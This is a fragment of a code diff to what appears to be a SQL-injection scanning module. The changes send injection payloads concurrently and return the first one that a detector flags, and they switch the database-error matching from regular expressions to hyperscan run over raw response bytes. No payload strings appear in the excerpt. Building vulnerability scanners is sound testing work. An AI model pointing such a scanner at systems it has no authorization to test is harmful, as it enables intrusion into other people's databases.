+            results = (future.result() for future in futures)
+        
+        try:
+            for payload, (response, error, response_time) in zip(payloads, results):
+                if error:
+                    continue
+                
+                injection_type = detect(response, response_time)
+                if injection_type:
+                    return payload, response, response_time, injection_type
+            return None
+        finally:
+            for future in futures:
+                future.cancel()
     
     def check_for_sql_errors(self, response) -> bool:
         """
@@ -421,16 +718,28 @@ class SQLInjection(BaseTestModule):
         Returns:
             bool: True if SQL errors found, False otherwise
         """
-        if not response or not hasattr(response, 'text') or not response.text:
+        # Scan the raw body: the patterns are ASCII, so there is no need to
+        # detect the encoding and decode it into text first
+        if not response or not getattr(response, 'content', None):
             return False
             
-        content = response.text
+        content = response.content
         
-        for pattern in self.error_patterns:
-            if pattern.search(content):
+        if self._ERROR_DB is not None:
+            # Scratch space cannot be shared between threads
+            scratch = getattr(self._ERROR_SCRATCH, 'scratch', None)
+            if scratch is None:
+                scratch = self._ERROR_SCRATCH.scratch = hyperscan.Scratch(self._ERROR_DB)
+            
+            # The handler returns True to stop the scan at the first match,
+            # which hyperscan reports by raising ScanTerminated
+            try:
+                self._ERROR_DB.scan(content, match_event_handler=lambda *args: True, scratch=scratch)
+            except hyperscan.ScanTerminated:
                 return True
-                
-        return False
+            return False
+        
+        return self._ERROR_PATTERN.search(content) is not None
     
     def report_sql_injection_finding(self, url: str, param: str, payload: str, 
                                     injection_type: str, response, response_time: float = None) -> None: